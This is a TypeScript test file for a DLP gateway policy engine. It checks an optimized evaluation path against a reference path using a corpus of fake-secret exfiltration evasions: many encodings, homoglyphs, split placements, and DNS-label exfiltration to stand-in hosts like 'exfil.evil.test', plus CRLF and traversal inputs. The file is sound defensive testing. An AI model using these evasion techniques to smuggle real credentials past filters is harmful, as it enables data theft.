// The fast path of evaluate() (memoized candidate decodings, length and printability
// prefilters, the canary prefilter) against the reference path it replaces: on every input
// below, a secret, an evasion or a benign request, the verdict (allow/block, stage, reason,
// rule) is the same. The corpus holds the evasion cases of policy-evasion, policy-canary and
// gateway-dlp, and generated variants: every secret in every position under every encoding.
// (BOTTLE_EVALUATE_SHADOW=1 makes every evaluate() of any other suite check the same.)
import { createHash, randomBytes } from 'node:crypto';
import t from 'tap';
import { dlpOnlyPolicy, evaluate, evaluateConnect, loadPolicy, prepareCanaries, type HttpRequest, type Policy } from '../../lib/policy/index.js';
import {
  collectDecodings, decodeBase32, decodeBase32Fast, encodeBase32, encodedRuns, encodedRunsFast, forEachDecoding, readable, readableAtLeast,
} from '../../lib/policy/decoders.js';
import { fingerprint } from '../../lib/secrets/index.js';
import { FAKE } from '../fixtures/policy/fake-secrets.js';

const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');
const b64url = (s: string | Buffer) => Buffer.from(s).toString('base64url');
const hex = (s: string | Buffer) => Buffer.from(s).toString('hex');
const b32 = (s: string) => encodeBase32(Buffer.from(s));
const fullwidth = (s: string) => s.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const cyrillic = (s: string) => s.replace(/a/g, '\u0430').replace(/e/g, '\u0435').replace(/o/g, '\u043e').replace(/p/g, '\u0440').replace(/c/g, '\u0441');
const get = (url: string, headers: Record<string, string> = {}): HttpRequest => ({ method: 'GET', url, headers });
const post = (body: string | Uint8Array, contentType: string, headers: Record<string, string> = {}, url = 'https://x.test/upload'): HttpRequest => ({
  method: 'POST', url, headers: { 'Content-Type': contentType, ...headers }, body,
});
const sha = (s: string, alg = 'sha1') => createHash(alg).update(s).digest('hex');

const S = FAKE.anthropic;
const SECRETS = [FAKE.anthropic, FAKE.github, FAKE.awsKeyId, FAKE.slack, FAKE.routeToken];
const canaries = prepareCanaries([FAKE.routeToken, 'short']);

// Encodings an agent may wrap a value in (for URL positions the result is %-escaped as needed).
const ENCODINGS: Array<[string, (s: string) => string]> = [
  ['raw', (s) => s],
  ['base64', (s) => b64(s)],
  ['base64url', (s) => b64url(s)],
  ['hex', (s) => hex(s)],
  ['HEX', (s) => hex(s).toUpperCase()],
  ['\\x hex', (s) => hex(s).replace(/../g, '\\x$&')],
  ['colon hex', (s) => hex(s).replace(/..(?!$)/g, '$&:')],
  ['base32', (s) => b32(s)],
  ['base32 lower', (s) => b32(s).toLowerCase()],
  ['percent', (s) => [...s].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')],
  ['double percent', (s) => encodeURIComponent([...s].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''))],
  ['base64 of hex', (s) => b64url(hex(s))],
  ['hex of base64', (s) => hex(b64(s))],
  ['base64 x3', (s) => b64(b64(b64(s)))],
  ['noise', (s) => `${s.slice(0, 7)}.${s.slice(7, 14)}+${s.slice(14)}`],
  ['fullwidth', (s) => fullwidth(s)],
  ['cyrillic', (s) => cyrillic(s)],
  ['zero-width', (s) => [...s].join('\u200b')],
  ['data url', (s) => `data:text/plain;base64,${b64(s)}`],
  ['base64 of binary', (s) => Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4, 0, 0, 0x80, 0xff]), Buffer.from(s), Buffer.from([0, 0x9c, 0xfe, 1])]).toString('base64')],
  ['base64, 1 byte shifted', (s) => b64(`#${s}`)],
  ['base64, 2 bytes shifted', (s) => b64(`##${s}`)],
  ['prefix only', (s) => s.slice(0, 12)],
  ['truncated base64', (s) => b64(s).slice(0, 11)],
  ['short base32', (s) => b32(s.slice(0, 8))],
];

function positions(v: string): Array<[string, HttpRequest]> {
  const e = encodeURIComponent(v);
  const half = Math.floor(v.length / 2);
  const lower = v.toLowerCase().replace(/[^a-z0-9]/g, '');
  return [
    ['path segment', get(`https://x.test/a/${e}/b`)],
    ['path, split', get(`https://x.test/${encodeURIComponent(v.slice(0, half))}/${encodeURIComponent(v.slice(half))}`)],
    ['query value', get(`https://x.test/?q=${e}`)],
    ['query key', get(`https://x.test/?${e}=1`)],
    ['query, split', get(`https://x.test/?a=${encodeURIComponent(v.slice(0, 9))}&b=${encodeURIComponent(v.slice(9))}`)],
    ['query, split in 3', get(`https://x.test/?a=${encodeURIComponent(v.slice(0, 5))}&b=${encodeURIComponent(v.slice(5, 20))}&c=${encodeURIComponent(v.slice(20))}`)],
    ['fragment', get(`https://x.test/p#${e}`)],
    ['userinfo', get(`https://u:${e}@x.test/`)],
    ['subdomain labels', get(`https://${(lower.match(/.{1,30}/g) ?? ['x']).join('.')}.x.test/`)],
    ['X-Custom header', get('https://x.test/', { 'X-Custom': v })],
    ['bearer', get('https://x.test/', { Authorization: `Bearer ${v}` })],
    ['cookie', get('https://x.test/', { Cookie: `session=abc; t=${v}` })],
    ['user agent', get('https://x.test/', { 'User-Agent': `curl/8 ${v}` })],
    ['JSON value', post(JSON.stringify({ a: [{ b: { note: v } }] }), 'application/json')],
    ['JSON key', post(JSON.stringify({ [v]: 1 }), 'application/json')],
    ['JSON-in-JSON', post(JSON.stringify({ a: JSON.stringify({ b: v }) }), 'application/json')],
    ['form value', post(`a=1&b=${e}`, 'application/x-www-form-urlencoded')],
    ['text body', post(`hello ${v} bye`, 'text/plain')],
    ['UTF-16 body', post(new Uint8Array(Buffer.from(`key ${v}`, 'utf16le')), 'application/octet-stream')],
  ];
}

// The explicit evasion cases of policy-evasion, policy-canary and gateway-dlp.
function evasionCases(): Array<[string, HttpRequest]> {
  const boundary = 'XyZ123';
  const multipart = (part: string) => `--${boundary}\r\nContent-Disposition: form-data; name="f"\r\n${part}\r\n--${boundary}--\r\n`;
  const qp = [...`key ${S}`].map((c) => `=${c.charCodeAt(0).toString(16).toUpperCase()}`).join('').replace(/.{60}/g, '$&=\r\n');
  const wrap = (s: string, cols: number, eol: string) => s.match(new RegExp(`.{1,${cols}}`, 'g'))!.join(eol);
  const blob = (cols: 64 | 76) => b64(`${'#'.repeat(cols === 64 ? 44 : 53)}${S} ${'#'.repeat(50)}`);
  let nested = [...S].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
  for (let i = 1; i < 13; i++) nested = encodeURIComponent(nested);
  const labels = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, 'g'))!.join('.');
  const hx = hex(FAKE.github);
  const scope = `${FAKE.awsKeyId}/20261207/us-east-1/s3/aws4_request`;
  const secretKey = createHash('sha256').update('secret key').digest().subarray(0, 30).toString('base64');
  const presigned = (credential: string) => get(`https://b.s3.test/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${encodeURIComponent(credential)}&X-Amz-Date=20261207T045600Z`);
  const auth = (credential: string) => get('https://b.s3.test/k', { Authorization: `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host, Signature=${'0f'.repeat(32)}` });
  const sig = Buffer.concat([Buffer.from(FAKE.awsKeyId), Buffer.alloc(12, 0xfe)]).toString('base64');
  const gwMultipart = [
    '--b', 'Content-Disposition: form-data; name="note"', '', 'hello',
    '--b', 'Content-Disposition: form-data; name="file"; filename="creds.txt"', 'Content-Type: text/plain', '',
    `aws_access_key_id = ${FAKE.awsKeyId}`, '--b--', '',
  ].join('\r\n');
  const real = 'Xk9mP2vQ7rT4wZ8n';
  return [
    ['acceptance', get('https://x.test/?q=c2stYW50LWFwaTAzLXU4anpQZGUwSWd4TGQ2R25jZkJBZXBmSkJkMEtoOG9PT0w4ZEtMemQ=')],
    ['base32 query', get(`https://x.test/?q=${b32(S)}`)],
    ['0x hex', get(`https://x.test/?d=${hex(S).replace(/../g, '0x$&')}`)],
    ['dash hex', get(`https://x.test/?d=${hex(S).replace(/..(?!$)/g, '$&-')}`)],
    ['space hex', get(`https://x.test/?d=${hex(S).replace(/..(?!$)/g, '$&%20')}`)],
    ['comma hex', get(`https://x.test/?d=${hex(S).replace(/..(?!$)/g, '$&,')}`)],
    ['percent twice', get(`https://x.test/?q=${encodeURIComponent(encodeURIComponent(S)).replace(/-/g, '%252D')}`)],
    ['percent thrice', get(`https://x.test/?q=${[...S].map((c) => `%2525${c.charCodeAt(0).toString(16)}`).join('')}`)],
    ['every byte in path', get(`https://x.test/${[...S].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`)],
    ['split subdomain', get(`https://${S.slice(0, 5)}.${S.slice(5, 30)}.${S.slice(30)}.x.test/`.toLowerCase())],
    ['IDN look-alikes', get(`https://${cyrillic(S.slice(0, 16).toLowerCase())}.${S.slice(16, 40).toLowerCase()}.x.test/`)],
    ['secret header name', get('https://x.test/', { [S]: '1' })],
    ['JSON unicode escapes', post(JSON.stringify({ q: S.replace(/-/g, '\\u002d') }).replace(/\\\\/g, '\\'), 'application/vnd.api+json')],
    ['form base64 double percent', post(`x=${encodeURIComponent(encodeURIComponent(b64(S)))}`, 'application/x-www-form-urlencoded')],
    ['declared UTF-16', post(new Uint8Array(Buffer.from(`key ${S}`, 'utf16le')), 'text/plain; charset=utf-16le')],
    ['JSON BOM', post(`\ufeff${JSON.stringify({ k: S })}`, 'application/json')],
    ['multipart base64', post(multipart(`Content-Transfer-Encoding: base64\r\n\r\n${b64(`note: ${S}`).replace(/.{20}/g, '$&\r\n')}`), `multipart/form-data; boundary=${boundary}`)],
    ['multipart qp', post(multipart(`Content-Transfer-Encoding: quoted-printable\r\n\r\n${qp}`), `multipart/form-data; boundary="${boundary}"`)],
    ['multipart JSON', post(multipart(`Content-Type: application/json\r\n\r\n{"k":{"v":"${S}"}}`), `multipart/form-data; boundary=${boundary}`)],
    ['boundary prefix', post(`--${boundary}\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(`x ${S}`)}\r\n--${boundary}X not a delimiter\r\n--${boundary}--\r\n`, `multipart/form-data; boundary=${boundary}`)],
    ['wrapped 76', post(JSON.stringify({ blob: wrap(blob(76), 76, '\n') }), 'application/json')],
    ['wrapped 64 CRLF', post(wrap(blob(64), 64, '\r\n'), 'text/plain')],
    ['wrapped in prose', post(`attachment:\n${wrap(blob(76), 76, '\r\n')}\n`, 'text/plain')],
    ['percent 13 deep query', get(`https://x.test/?q=${nested}`)],
    ['percent 13 deep form', post(`q=${nested}`, 'application/x-www-form-urlencoded')],
    ['hex over labels', get(`https://${labels(hx, 40)}.evil.test/`)],
    ['hex over labels, counter', get(`https://7.${labels(hx, 30)}.exfil.evil.test/`)],
    ['base32 over labels', get(`https://q7.${labels(b32(FAKE.github).toLowerCase(), 20)}.www.evil.test/`)],
    ['GHP_', post(`k=${FAKE.github.replace('ghp_', 'GHP_')}`, 'text/plain')],
    ['SK-ANT-', post(`k=${S.replace('sk-ant-', 'SK-ANT-')}`, 'text/plain')],
    ['aws lower', get(`https://x.test/?id=${FAKE.awsKeyId.toLowerCase()}`)],
    ['presigned after scope', presigned(`${scope}/${secretKey}`)],
    ['presigned glued', presigned(`${scope}${secretKey}`)],
    ['presigned before', presigned(`${secretKey}${scope}`)],
    ['presigned not a scope', presigned(scope.replace('/us-east-1/', '/us-east-1/x/'))],
    ['presigned 21 chars', presigned(scope.replace('AKIA', 'AKIAQ'))],
    ['presigned token service', presigned(scope.replace('/s3/', `/${S}/`))],
    ['presigned clean', presigned(scope)],
    ['sigv4 auth after', auth(`${scope}/${secretKey}`)],
    ['sigv4 auth glued', auth(`${scope}${secretKey}`)],
    ['sigv4 auth clean', auth(scope)],
    ['token in sig', get(`https://a.blob.test/c/b?sv=2022-11-02&sig=${encodeURIComponent(sig)}`)],
    ['base64url hash segment', get(`https://x.test/cas/sha256/${Buffer.from(S.slice(0, 32)).toString('base64url')}`)],
    ...[`changeme${real}`, `${real}changeme`, `your-api-key-${real}`].flatMap((value): Array<[string, HttpRequest]> => [
      [`env ${value}`, post(`DB_HOST=localhost\nDB_PASSWORD=${value}\n`, 'text/plain')],
      [`api key ${value}`, post(`API_KEY=${value}\n`, 'text/plain')],
    ]),
    ['placeholders', post('DB_PASSWORD=changeme123\nAPI_KEY=your-api-key-here\nSECRET_KEY=replace-me\n', 'text/plain')],
    ['gateway path', get(`https://allowed.test/dlp/path/${FAKE.github}`)],
    ['gateway query', get(`https://allowed.test/dlp/query?data=${encodeURIComponent(b64(FAKE.github))}`)],
    ['gateway header', get('https://allowed.test/dlp/header', { 'x-custom': FAKE.awsKeyId })],
    ['gateway JSON', post(JSON.stringify({ note: `my key is ${FAKE.github}` }), 'application/json')],
    ['gateway multipart', post(gwMultipart, 'multipart/form-data; boundary=b')],
    ['gateway slack', get('http://allowed.test/dlp', { 'x-note': FAKE.slack })],
    ['crlf', get('https://x.test/a%0d%0aSet-Cookie:x')],
    ['traversal', get('https://x.test/a/%2e%2e/b')],
    ['fullwidth traversal', get(`https://x.test/a/${encodeURIComponent('\uff0e\uff0e')}/b`)],
    ['entropy', get(`https://x.test/?k=${b64url(randomBytes(24))}`)],
    ['host mismatch', get('https://x.test/', { Host: 'y.test' })],
  ];
}

// Ordinary traffic, which must stay allowed by both paths (the bench's corpus and the like).
function benignCases(): Array<[string, HttpRequest]> {
  const headers = {
    'User-Agent': 'npm/10.8.2 node/v20.20.2 linux x64 workspaces/false', Accept: 'application/json',
    'If-None-Match': `W/"${sha('etag', 'sha256')}"`, 'X-Request-Id': '3f2b8c1e-4d5a-4b6c-9e7f-0a1b2c3d4e5f', 'Accept-Encoding': 'gzip, deflate, br',
  };
  const urls = [
    'https://api.github.com/repos/x/y/issues?state=open',
    'https://api.github.com/repos/octo-org/octo-repo/pulls?state=all&per_page=100&page=3',
    'https://registry.npmjs.org/@types%2fnode',
    'https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz',
    'https://pypi.org/pypi/requests/json',
    `https://files.pythonhosted.org/packages/70/8e/${sha('w', 'sha256').slice(0, 60)}/requests-2.31.0-py3-none-any.whl`,
    'https://github.com/x/y.git/info/refs?service=git-upload-pack',
    `https://codeload.github.com/x/y/tar.gz/${sha('c')}`,
    'https://d3f7a9c2b1e4.cloudfront.net/x',
    'https://ec2-3-120-45-67.eu-central-1.compute.amazonaws.com/x',
    'https://x.test/search?q=asiapacificregionsoutheast',
    `https://registry.npmjs.org/x/-/x-1.0.0.tgz?integrity=${encodeURIComponent(`sha512-${createHash('sha512').update('x').digest('base64')}`)}`,
  ];
  const sentence = 'Please review the attached module and explain what each exported function does. ';
  const image = Buffer.alloc(8 * 1024);
  for (let i = 0; i < image.length; i++) image[i] = (i * 2654435761) >>> 24;
  return [
    ...urls.map((u): [string, HttpRequest] => [u, get(u)]),
    ...urls.map((u): [string, HttpRequest] => [`${u} + headers`, get(u, headers)]),
    ['chat body', post(JSON.stringify({ model: 'm', messages: [{ role: 'user', content: sentence.repeat(20) }] }), 'application/json', headers, 'https://api.github.com/repos/x/y/issues')],
    ['image data url', post(JSON.stringify({ image: `data:image/png;base64,${image.toString('base64')}` }), 'application/json')],
    ['wrapped binary', post(image.toString('base64').match(/.{1,76}/g)!.join('\n'), 'text/plain')],
    ['percent prose', post('100%25 done, 50%2525 of 20%', 'text/plain')],
  ];
}

function corpus(): Array<[string, HttpRequest]> {
  const out: Array<[string, HttpRequest]> = [...evasionCases(), ...benignCases()];
  for (const secret of SECRETS) {
    for (const [how, enc] of ENCODINGS) {
      for (const [where, req] of positions(enc(secret))) out.push([`${secret.slice(0, 4)} ${how} in ${where}`, req]);
    }
  }
  return out;
}

const POLICIES: Array<[string, Policy]> = [
  ['dlp-only', dlpOnlyPolicy()],
  ['routes + ignore', loadPolicy(`version: 1\nallow: ["*"]\nroutes: [{ host: x.test, headers: { Authorization: "Bearer \${T}" } }]\ndlp: { ignore: ["${fingerprint(FAKE.github)}"] }\n`)],
];

const same = (a: HttpRequest, p: Policy) => {
  const ref = evaluate(p, a, canaries, { reference: true, now: 0 });
  const fast = evaluate(p, a, canaries, { now: 0 });
  return { ref, fast };
};

t.test('evaluate(): the fast path gives the reference verdict on every corpus request', async (t) => {
  const cases = corpus();
  t.ok(cases.length > 2000, `corpus of ${cases.length} requests`);
  let blocked = 0;
  let mismatches = 0;
  for (const [pname, policy] of POLICIES) {
    // Twice: the first pass fills the decoding memo, the second is served from it.
    for (const pass of ['cold', 'warm']) {
      for (const [name, req] of cases) {
        const { ref, fast } = same(req, policy);
        if (ref.verdict === 'block') blocked++;
        if (JSON.stringify(ref) !== JSON.stringify(fast)) {
          mismatches++;
          t.same(fast, ref, `${pname}, ${pass}: ${name}`);
        }
      }
    }
  }
  t.equal(mismatches, 0, 'no verdict differs');
  t.ok(blocked > cases.length, `the corpus exercises blocks (${blocked} blocked verdicts)`);
});

t.test('evaluate(): the same request without canaries, and CONNECT host names', async (t) => {
  const p = dlpOnlyPolicy();
  let mismatches = 0;
  for (const [name, req] of corpus().slice(0, 600)) {
    const ref = evaluate(p, req, undefined, { reference: true, now: 0 });
    const fast = evaluate(p, req, undefined, { now: 0 });
    if (JSON.stringify(ref) !== JSON.stringify(fast)) t.same(fast, ref, `${name} (${++mismatches})`);
  }
  const hosts = [
    'api.github.com', `${hex(FAKE.github).slice(0, 40)}.${hex(FAKE.github).slice(40)}.evil.test`,
    `q7.${(b32(FAKE.github).toLowerCase().match(/.{1,20}/g) ?? []).join('.')}.www.evil.test`,
    `${b32(FAKE.routeToken).toLowerCase()}.x.test`, `${hex(FAKE.routeToken)}.x.test`, 'pastebin.com', '127.0.0.1',
  ];
  for (const h of hosts) {
    const ref = evaluateConnect(p, h, 443, canaries, { reference: true, now: 0 });
    t.same(evaluateConnect(p, h, 443, canaries, { now: 0 }), ref, `CONNECT ${h}`);
  }
  t.equal(mismatches, 0);
});

// The decoder-level pieces, on random inputs shaped like what they meet.
t.test('collectDecodings emits what forEachDecoding emits of 8+ characters, in order', async (t) => {
  const alphabets = ['0123456789abcdef', 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/_-', 'abc%25.2 +/=:-'];
  const inputs: string[] = [];
  for (const secret of SECRETS) for (const [, enc] of ENCODINGS) inputs.push(enc(secret));
  for (let i = 0; i < 3000; i++) {
    const a = alphabets[i % alphabets.length]!;
    const len = 8 + (i % 70);
    let s = '';
    for (let k = 0; k < len; k++) s += a[Math.floor(Math.random() * a.length)];
    inputs.push(i % 5 === 0 ? b64(s) : i % 7 === 0 ? hex(s) : s);
  }
  let bad = 0;
  for (const s of inputs) {
    for (const strip of [true, false]) {
      const ref: string[] = [];
      forEachDecoding(s, 3, (how, text) => {
        if (text.length >= 8) ref.push(how, text);
      }, strip);
      const fast: string[] = [];
      collectDecodings(s, 3, strip, 8, fast);
      if (JSON.stringify(ref) !== JSON.stringify(fast) && bad++ < 10) t.same(fast, ref, `${JSON.stringify(s)} strip=${strip}`);
    }
  }
  t.equal(bad, 0);
});

t.test('readableAtLeast and decodeBase32Fast agree with readable and decodeBase32', async (t) => {
  let bad = 0;
  for (let i = 0; i < 20000; i++) {
    const len = i % 40;
    const bytes = randomBytes(len);
    // Mostly ASCII, mostly printable, random: each branch of readableAtLeast.
    if (i % 3 === 0) for (let k = 0; k < len; k++) bytes[k] = bytes[k]! & 0x7f;
    if (i % 3 === 1) for (let k = 0; k < len; k++) if (bytes[k]! < 0x20 && k % 4) bytes[k] = 0x41;
    const want = len >= 8 ? readable(bytes) : undefined;
    if (readableAtLeast(bytes, 8) !== want && bad++ < 10) t.equal(readableAtLeast(bytes, 8), want, hex(bytes));
    const s = encodeBase32(bytes);
    for (const v of [s, s.toLowerCase(), `${s}==`, `${s}x`, s.slice(1)]) {
      const a = decodeBase32(v);
      const b = decodeBase32Fast(v);
      if ((a === undefined) !== (b === undefined) || (a && b && Buffer.compare(Buffer.from(a), b) !== 0)) {
        if (bad++ < 10) t.fail(`base32 ${v}`);
      }
    }
  }
  t.equal(bad, 0);
});

t.test('encodedRunsFast finds the runs encodedRuns finds, wrapped ones included', async (t) => {
  const pieces = ['A', 'b', '9', '+', '/', '_', '-', '=', '==', ' ', '.', '\n', '\r\n', '\r', 'é', '"'];
  const inputs: string[] = [];
  const blob = (n: number) => b64(randomBytes(n));
  for (let i = 0; i < 20000; i++) {
    let s = '';
    const len = i % 300;
    // Word-like text, long unbroken runs, and base64 wrapped at 4k columns with CRLF or LF.
    const mode = i % 4;
    while (s.length < len) {
      if (mode === 0) s += pieces[Math.floor(Math.random() * pieces.length)];
      else if (mode === 1) s += Math.random() < 0.9 ? 'x' : pieces[Math.floor(Math.random() * pieces.length)];
      else if (mode === 2) s += blob(1 + Math.floor(Math.random() * 40));
      else s += `${blob(12 * (1 + Math.floor(Math.random() * 5)))}${Math.random() < 0.5 ? '\r\n' : '\n'}`;
    }
    inputs.push(s);
  }
  const wrap = (s: string, cols: number, eol: string) => s.match(new RegExp(`.{1,${cols}}`, 'g'))!.join(eol);
  for (const cols of [16, 20, 64, 76]) for (const eol of ['\n', '\r\n']) {
    for (const pre of ['', 'x', 'attachment:\n', '#'.repeat(17)]) inputs.push(`${pre}${wrap(blob(200), cols, eol)}${eol}tail`, `${pre}${wrap(blob(200), cols, eol)}`);
  }
  let bad = 0;
  for (const s of inputs) {
    const want = encodedRuns(s);
    const got = encodedRunsFast(s);
    if (JSON.stringify(got) !== JSON.stringify(want) && bad++ < 10) t.same(got, want, JSON.stringify(s));
  }
  t.equal(bad, 0, `${inputs.length} strings`);
});

t.test('canaries: every form at every offset of a text, alone and among others', async (t) => {
  const token = FAKE.routeToken;
  const multi = prepareCanaries([token, 'another-route-secret-value-0123456789']);
  const forms = [token, hex(token), hex(token).toUpperCase(), b64(token), b64url(token), b64(`#${token}`), b64(`##${token}`), b32(token), b32(token).toLowerCase(), b32(`#${token}`)];
  let bad = 0;
  let blocked = 0;
  for (const form of forms) {
    for (let at = 0; at < 48; at++) {
      const filler = 'q'.repeat(at);
      for (const req of [
        get('https://x.test/', { 'X-Data': `${filler}${form}` }),
        get('https://x.test/', { 'X-Data': `${filler}${form.slice(0, -1)}` }),
        post(`${filler}${form} tail`, 'text/plain'),
        post(`${filler}${form}`.repeat(Math.ceil(6000 / (at + form.length))), 'text/plain'),
        get(`https://x.test/${filler}/?v=${encodeURIComponent(form)}`),
      ]) {
        for (const c of [canaries, multi]) {
          const ref = evaluate(dlpOnlyPolicy(), req, c, { reference: true, now: 0 });
          if (ref.stage === 'canary') blocked++;
          const fast = evaluate(dlpOnlyPolicy(), req, c, { now: 0 });
          if (JSON.stringify(ref) !== JSON.stringify(fast) && bad++ < 10) t.same(fast, ref, `${form} at ${at}`);
        }
      }
    }
  }
  t.equal(bad, 0);
  t.ok(blocked > 1000, `${blocked} canary blocks compared`);
});
